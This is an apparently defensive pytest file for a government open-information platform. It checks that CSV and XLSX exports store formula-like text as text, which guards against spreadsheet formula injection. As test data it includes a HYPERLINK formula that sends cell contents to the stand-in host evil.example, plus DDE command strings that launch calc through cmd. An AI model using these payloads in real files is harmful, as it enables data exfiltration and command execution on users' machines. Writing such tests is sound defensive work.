"""No CSV or XLSX the platform writes contains a formula (ADR 0086): each export, fed text
that a spreadsheet would run, stores it as text."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from gongkai.documents.tabular import FORMULA_STARTS, csv_cell, is_formula_like

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
SRC = Path(__file__).resolve().parent.parent / "src" / "gongkai"


def assert_csv_safe(text: str, expect: str) -> None:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + expect in cells  # the text is there, as text
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


def assert_xlsx_safe(content: bytes, expect: str) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[\s>]", archive.read(name)), name
    book = load_workbook(io.BytesIO(content))
    values = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    hits = [c for c in values if c.value == expect]
    assert hits and all(c.data_type == "s" and c.quotePrefix for c in hits)


def test_the_rule():
    for start in ("=", "+", "-", "@", "\t", "\r", "＝"):
        assert is_formula_like(start + "1") and csv_cell(start + "1") == "'" + start + "1"
    assert csv_cell(-5) == -5 and csv_cell("备注") == "备注" and csv_cell(None) is None


def test_no_module_writes_csv_around_the_safe_writer():
    raw = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8")
        and path.relative_to(SRC).parts[0] != "demo"
    ]
    # the writer itself, the masked copy of an agency's own CSV file (its content as given),
    # and the credit exchange file for the provincial platform (a machine format whose values
    # must arrive as recorded, ADR 0150); demo data writes the input files a city would import
    assert sorted(raw) == ["apps/credit/exchange.py", "documents/mask.py", "documents/tabular.py"]


def test_register_export_of_an_anonymous_description(world, client_for):
    from tests.apps.applications.factories import register

    register(world, description=EVIL + " 请公开")
    register(world, description="@SUM(1+1)*cmd|' /C calc'!A0")
    response = client_for(world.officer_a).get("/backoffice/applications/export.xlsx")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert_xlsx_safe(content, "@SUM(1+1)*cmd|' /C calc'!A0")


def test_public_catalogue_csv_api_and_back_office_and_cli(world, client, client_for, tmp_path):
    from gongkai.cli import main
    from tests.apps.catalog.factories import published

    published(world.dept_a, title=EVIL)
    api = client.get("/api/catalog/export.csv")
    assert_csv_safe(b"".join(api.streaming_content).decode(), EVIL)
    office = client_for(world.officer_a).get("/backoffice/catalog/export/?format=csv")
    assert_csv_safe(b"".join(office.streaming_content).decode(), EVIL)
    out = tmp_path / "catalog.csv"
    assert main(["catalog", "export", "--format", "csv", "-o", str(out)]) == 0
    assert_csv_safe(out.read_text(encoding="utf-8-sig"), EVIL)


def test_catalogue_import_error_report(world, client_for, tmp_path):
    from gongkai.cli import main

    source = tmp_path / "legacy.csv"
    source.write_text("标题,发布日期\n" + '"-1+cmd|calc",不是日期\n', encoding="utf-8")
    errors = tmp_path / "errors.csv"
    main(["catalog", "import", str(source), "--agency", "depta", "--errors-out", str(errors)])
    text = errors.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1:] and not [c for r in rows for c in r if c.startswith(FORMULA_STARTS)]


def test_inspection_results_and_entity_import_errors(world, client):
    from gongkai.apps.inspections.models import MarketEntity
    from gongkai.apps.inspections.services.tasks import results_csv
    from tests.apps.inspections.factories import make_setup
    from tests.apps.inspections.test_views import published as publish

    setup = make_setup(world)
    MarketEntity.objects.update(name=EVIL)
    task = publish(setup)
    assert_csv_safe(results_csv(task).decode("utf-8-sig"), EVIL)
    page = client.get(f"/inspections/tasks/{task.pk}/results.csv")
    assert_csv_safe(page.content.decode("utf-8-sig"), EVIL)


def test_entity_import_error_csv():
    from gongkai.apps.inspections.services.importing import ImportStats

    report = ImportStats()
    report.errors.append((2, "名称", EVIL))
    assert_csv_safe(report.error_csv().decode("utf-8-sig"), EVIL)


def test_mailbox_statistics_exports():
    from types import SimpleNamespace

    from gongkai.apps.mailbox.views.backoffice import _export

    figures = SimpleNamespace(
        received=3,
        answered=2,
        answered_on_time=2,
        reply_rate=None,
        on_time_rate=None,
        average_handling_days=None,
        rated=0,
        satisfied=0,
        satisfaction_rate=None,
    )
    rows = [SimpleNamespace(label="+市交通局", figures=figures)]
    csv_text = _export("csv", 2026, "全市", "agency", rows, figures).content.decode("utf-8-sig")
    assert_csv_safe(csv_text, "+市交通局")
    assert_xlsx_safe(_export("xlsx", 2026, "全市", "agency", rows, figures).content, "+市交通局")


def test_a_cell_set_in_a_normal_worksheet_stays_text():
    """The annual report workbook sets cells one by one (its own test builds a real report:
    tests/apps/reporting/test_cli.py)."""
    from openpyxl import Workbook

    from gongkai.documents.tabular import xlsx_set

    book = Workbook()
    xlsx_set(book.active.cell(1, 1), "-（一）其他")
    out = io.BytesIO()
    book.save(out)
    assert_xlsx_safe(out.getvalue(), "-（一）其他")
